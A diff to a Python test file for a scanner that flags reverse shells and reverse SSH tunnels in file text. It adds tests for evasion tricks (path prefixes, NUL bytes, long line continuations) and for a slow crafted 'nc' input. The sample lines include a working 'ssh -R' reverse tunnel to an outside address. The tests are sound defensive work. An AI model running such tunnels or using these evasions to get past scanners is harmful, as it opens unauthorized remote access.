@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import threading
 import time
 from pathlib import Path
 
@@ -33,9 +34,34 @@ def test_line_number_count_and_redacted_excerpt(cat: Catalogue) -> None:
 
 
 def test_comments_are_skipped_and_continuations_joined(cat: Catalogue) -> None:
-    assert rules(cat, f"# example: {REVERSE}\n// {REVERSE}\n; {REVERSE}\n") == {}
+    assert rules(cat, f"# example: {REVERSE}\n; {REVERSE}\n") == {}
     hit = rules(cat, "x=1\nssh -fN \\\n  -R 2222:localhost:22 \\\n  u@198.51.100.7\n")
     assert hit["tunnel.ssh_reverse"].line == 2
+
+
+def test_what_a_shell_runs_is_judged_however_it_is_written(cat: Catalogue) -> None:
+    """`//tmp/x` runs /tmp/x; bash runs a script with NUL bytes in it; a command continued
+    over many lines is one command."""
+    assert "tunnel.ssh_reverse" in rules(cat, f"#!/bin/sh\n//{REVERSE}\n")
+    nul = f"#!/bin/bash\n: '\0'\n{REVERSE}\n".encode()
+    assert "tunnel.ssh_reverse" in {h.rule for h in filetext.line_hits(cat, nul)}
+    long = (
+        "ssh -fN \\\n"
+        + "  -o ServerAliveInterval=30 \\\n" * 40
+        + "  -R 2222:localhost:22 u@198.51.100.7\n"
+    )
+    assert rules(cat, long)["tunnel.ssh_reverse"].line == 1
+
+
+def test_a_crafted_text_costs_linear_time(cat: Catalogue) -> None:
+    """256 KiB of `nc nc nc ...` (every gap of the reverse-shell patterns is bounded): once
+    quadratic (minutes of a stalled agent), now done well within the bound."""
+    done = threading.Event()
+    crafted = b"#!/bin/sh\n-c\n" + b"nc " * (filetext.MAX_BYTES // 3)
+    worker = threading.Thread(target=lambda: (filetext.line_hits(cat, crafted), done.set()))
+    worker.start()
+    worker.join(30)
+    assert done.is_set(), "line rules took over 30 s on 256 KiB"
 
 
 def test_caps_bound_what_is_judged(cat: Catalogue) -> None:
